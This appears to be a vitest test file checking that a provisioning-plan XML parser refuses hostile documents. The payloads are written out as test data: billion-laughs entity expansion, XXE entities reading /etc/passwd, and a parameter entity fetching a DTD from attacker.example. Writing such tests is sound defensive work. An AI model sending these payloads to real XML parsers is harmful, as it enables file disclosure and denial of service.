import { describe, expect, it } from 'vitest';
import type { Problem } from '../domain/result.ts';
import { DEFAULT_PLAN_LIMITS } from './limits.ts';
import { parsePlanXml } from './xml-parse.ts';
import type { PlanXmlOptions } from './xml-parse.ts';

function problems(xml: string | Uint8Array, options?: PlanXmlOptions): Problem[] {
  const r = parsePlanXml(xml, options);
  if (r.ok) throw new Error('expected the document to be refused');
  return r.errors;
}

describe('hostile XML', () => {
  it('billion laughs: the entity declarations are refused, nothing is expanded', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE ProvisioningPlan [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ProvisioningPlan><AccountRequest application="&lol9;" nativeIdentity="x"/></ProvisioningPlan>`;
    const errors = problems(lol);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ code: 'plan.xml.doctype', line: 2, column: 1 });
    expect(errors[0]?.message).toContain('declares entities');
  });

  it('XXE: an external entity is refused and never read', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE ProvisioningPlan [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>
<ProvisioningPlan identity="&x;"/>`;
    const errors = problems(xxe);
    expect(errors).toHaveLength(1);
    expect(errors[0]?.code).toBe('plan.xml.doctype');
    expect(JSON.stringify(errors)).not.toContain('root:');
  });

  it('XXE through the external DTD itself is refused', () => {
    const errors = problems('<!DOCTYPE ProvisioningPlan SYSTEM "file:///etc/passwd"><ProvisioningPlan/>');
    expect(errors[0]?.code).toBe('plan.xml.doctype');
    expect(errors[0]?.message).toContain("'file:///etc/passwd'");
  });

  it('parameter entities are refused', () => {
    const pe = `<!DOCTYPE ProvisioningPlan [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<ProvisioningPlan/>`;
    const errors = problems(pe);
    expect(errors).toHaveLength(1);
    expect(errors[0]?.code).toBe('plan.xml.doctype');
  });

  it('an internal subset without entities is refused too', () => {
    expect(problems('<!DOCTYPE ProvisioningPlan [ <!ELEMENT ProvisioningPlan ANY> ]><ProvisioningPlan/>')[0]?.message).toContain('internal subset');
  });

  it('a DOCTYPE naming another root is refused', () => {
    expect(problems('<!DOCTYPE html><ProvisioningPlan/>')[0]?.message).toContain('names <html>');
  });

  it('an entity reference with no DTD is an error, not silently text', () => {
    const errors = problems('<ProvisioningPlan>\n  <AccountRequest application="&x;" nativeIdentity="y"/>\n</ProvisioningPlan>');
    expect(errors[0]).toMatchObject({ code: 'plan.xml.entity', line: 2 });
    expect(errors[0]?.message).toContain('only &amp; &lt; &gt; &quot; &apos; and numeric character references are allowed');
  });

  it('a 100 MB document is refused by the size limit before parsing, allocating next to nothing', () => {
    const size = 100 * 1024 * 1024;
    const text = `<ProvisioningPlan>${' '.repeat(size)}</ProvisioningPlan>`;
    const bytes = new Uint8Array(size);
    const before = process.memoryUsage();
    const fromText = problems(text);
    const fromBytes = problems(bytes);
    const after = process.memoryUsage();
    expect(fromText).toHaveLength(1);
    expect(fromText[0]?.code).toBe('plan.too_large');
    expect(fromText[0]?.message).toContain(`over the limit of ${DEFAULT_PLAN_LIMITS.maxBytes} bytes (64 MiB)`);
    expect(fromBytes[0]?.code).toBe('plan.too_large');
    // Reading either would take hundreds of MB; refusing takes a few objects.
    expect(after.heapUsed + after.arrayBuffers - (before.heapUsed + before.arrayBuffers)).toBeLessThan(8 * 1024 * 1024);
  });

  it('the size limit counts UTF-8 bytes, not characters', () => {
    const text = `<ProvisioningPlan identity="${'é'.repeat(400_000)}"/>`; // 800 KB as UTF-8
    expect(problems(text, { maxBytes: 500_000 })[0]?.code).toBe('plan.too_large');
    expect(parsePlanXml(text, { maxBytes: 1_000_000 }).ok).toBe(true);
  });

  it('10,000-deep nesting stops at the depth limit with a position', () => {
    const deep = `<ProvisioningPlan>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}</ProvisioningPlan>`;
    const errors = problems(deep);
    const tooDeep = errors.find((e) => e.code === 'plan.too_deep');
    expect(tooDeep).toMatchObject({ line: 1, column: 19 + 3 * (DEFAULT_PLAN_LIMITS.maxDepth - 1) }); // the 33rd element, the 32nd <x>
    expect(tooDeep?.message).toContain(`deeper than ${DEFAULT_PLAN_LIMITS.maxDepth} levels`);
    expect(errors.length).toBeLessThanOrEqual(3);
  });

  it('deep nesting inside a valid element path is caught as well', () => {
    const deep = `<ProvisioningPlan><AccountRequest application="a" nativeIdentity="b"><AttributeRequest name="n"><value><List>${'<String>'.repeat(10_000)}`;
    expect(problems(deep).some((e) => e.code === 'plan.too_deep')).toBe(true);
  });

  it('garbage is reported, not thrown', () => {
    for (const junk of ['\u0000\u0001', '<<<<', '<ProvisioningPlan', '<?xml?>', ']]>', '<a b="1" b="2"/>', '\uD800']) {
      const r = parsePlanXml(junk);
      expect(r.ok).toBe(false);
    }
  });
});
